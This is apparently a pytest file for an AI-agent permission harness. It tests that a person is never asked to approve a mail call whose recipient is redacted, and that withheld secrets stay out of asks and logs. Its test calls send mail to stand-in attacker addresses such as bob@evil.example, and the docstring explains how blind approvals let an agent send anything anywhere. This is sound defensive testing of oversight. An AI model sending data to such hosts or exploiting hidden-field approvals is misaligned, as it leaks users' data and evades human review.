"""Attacks on what a person is shown when asked: a deciding field that is withheld.

Issue 19: "A person is never asked to approve a call whose deciding fields they were not
shown." Rule R8: sensitive (or guardrail-redacted) values never appear in asks. When the
deciding field *is* the sensitive one (a recipient marked ``sensitive`` as personal data,
or redacted by an argument-stage PII guardrail), the pipeline resolves the conflict by
asking anyway: the person sees ``to: "[REDACTED]"``, no facts (they are withheld too), and
is offered "any arguments" as a grant scope. An agent can then send anything to anyone on
a blind approval. The ask should show what the decision needs (the recipient's domain, a
fact that is not the secret itself), or the call should not be put to a person at all.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from clearance import CallContext, Harness, MemoryJournal, Principal, Tool, ToolRegistry
from clearance.facts import EmailFact
from clearance.harness.approvals import Answer, PermissionAsk, PermissionDecision
from clearance.harness.ask_display import ask_lines
from clearance.policy import LocalEvaluator

pytestmark = pytest.mark.anyio

ALICE = Principal("User", "alice")


async def test_a_person_is_not_asked_to_approve_a_recipient_they_cannot_see() -> None:
    sent: list[dict[str, Any]] = []

    def send(arguments: dict[str, Any], ctx: CallContext) -> str:
        sent.append(arguments)
        return "sent"

    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "send",
                send,
                sensitive=["/to"],  # an address is personal data: kept out of the journal
                input_schema={
                    "type": "object",
                    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
                    "required": ["to", "body"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact()},
            )
        ],
    )
    shown: list[list[str]] = []

    def person(ask: PermissionAsk) -> Answer:
        # What a prompt can show: the arguments as laid out for people, and the facts.
        shown.append([*ask_lines(ask.arguments, ask.deciding, width=100), json.dumps(ask.facts)])
        return "allow_once"

    evaluator = LocalEvaluator(ask=["mail.send"])
    async with Harness(registry, evaluator=evaluator, journal=MemoryJournal()) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        await session.call_tool("mail__send", {"to": "bob@evil.example", "body": "numbers"})

    # Either nobody is asked to approve blind, or the ask shows where the mail goes.
    blind = [lines for lines in shown if not any("evil.example" in line for line in lines)]
    assert not blind, f"approved without seeing the recipient: {blind}; sent: {sent}"


async def test_a_call_that_cannot_be_shown_is_denied_in_words_that_say_why() -> None:
    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "send",
                lambda arguments, ctx: "sent",
                sensitive=["/to"],
                input_schema={
                    "type": "object",
                    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
                    "required": ["to", "body"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact()},
            )
        ],
    )
    journal = MemoryJournal()
    evaluator = LocalEvaluator(ask=["mail.send"])
    async with Harness(registry, evaluator=evaluator, journal=journal) as harness:
        session = await harness.create_session(
            principal=ALICE, on_permission_ask=lambda ask: "allow_once"
        )
        out = await session.call_tool(
            "mail__send", {"to": "bob@evil.example", "body": "x"}, call_id="c1"
        )
    message = (
        "this call needs approval, but what decides it (/to) is withheld and cannot be shown "
        "to a person; denied"
    )
    assert out.status == "denied" and out.text.startswith(message)
    decided = next(e.data for e in journal.events(call_id="c1") if e.type == "call_decided")
    assert {k: decided["ask"][k] for k in ("answer", "how", "message")} == {
        "answer": "deny",
        "how": "unshowable",
        "message": message,
    }
    assert [e.type for e in journal.events(call_id="c1")] == ["call_decided"]  # nobody asked


async def test_two_withheld_deciding_fields_are_both_named_in_the_denial() -> None:
    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "send",
                lambda arguments, ctx: "sent",
                sensitive=["/to", "/cc"],
                input_schema={
                    "type": "object",
                    "properties": {
                        "to": {"type": "string"},
                        "cc": {"type": "string"},
                        "body": {"type": "string"},
                    },
                    "required": ["to", "cc", "body"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact(), "/cc": EmailFact()},
            )
        ],
    )
    journal = MemoryJournal()
    async with Harness(
        registry, evaluator=LocalEvaluator(ask=["mail.send"]), journal=journal
    ) as harness:
        session = await harness.create_session(
            principal=ALICE, on_permission_ask=lambda ask: "allow_once"
        )
        out = await session.call_tool(
            "mail__send", {"to": "a@evil.example", "cc": "b@evil.example", "body": "x"}
        )
    assert out.status == "denied"
    assert out.text.startswith(
        "this call needs approval, but what decides it (/to, /cc) is withheld and cannot be "
        "shown to a person; denied"
    )


def _vault() -> ToolRegistry:
    """A tool whose recipient decides (shown) and whose secret does not (withheld)."""
    registry = ToolRegistry()
    registry.register(
        "vault",
        [
            Tool(
                "put",
                lambda arguments, ctx: "stored",
                sensitive=["/secret"],
                input_schema={
                    "type": "object",
                    "properties": {"to": {"type": "string"}, "secret": {"type": "string"}},
                    "required": ["to", "secret"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact()},
            )
        ],
    )
    return registry


async def test_a_person_asked_about_a_call_is_not_shown_its_withheld_argument() -> None:
    # R8: the deciding recipient is shown; the secret that does not decide is not, in the
    # ask the callback (a person's prompt) receives, not only in the journal.
    seen: list[PermissionAsk] = []

    def person(ask: PermissionAsk) -> Answer:
        seen.append(ask)
        return "allow_once"

    async with Harness(_vault(), evaluator=LocalEvaluator(ask=["vault.put"])) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        out = await session.call_tool("vault__put", {"to": "bob@example.com", "secret": "hunter2"})
    assert out.ok
    [ask] = seen
    assert ask.arguments == {"to": "bob@example.com", "secret": "[REDACTED]"}
    assert "hunter2" not in json.dumps(ask.to_json())


async def test_a_denial_s_message_that_repeats_a_withheld_value_does_not_show_it() -> None:
    # The person's answer may quote the secret (typed from elsewhere): the model's text
    # and every record of the call show it redacted.
    journal = MemoryJournal()
    async with Harness(
        _vault(), evaluator=LocalEvaluator(ask=["vault.put"]), journal=journal
    ) as harness:
        session = await harness.create_session(
            principal=ALICE,
            on_permission_ask=lambda ask: PermissionDecision("deny", message="not hunter2"),
        )
        out = await session.call_tool(
            "vault__put", {"to": "bob@example.com", "secret": "hunter2"}, call_id="c1"
        )
    assert out.status == "denied"
    assert out.text.startswith("not [REDACTED]")
    events = journal.events(call_id="c1")
    assert "hunter2" not in json.dumps([e.data for e in events])
    decided = next(e.data for e in events if e.type == "call_decided")
    assert decided["ask"]["message"] == "not [REDACTED]"
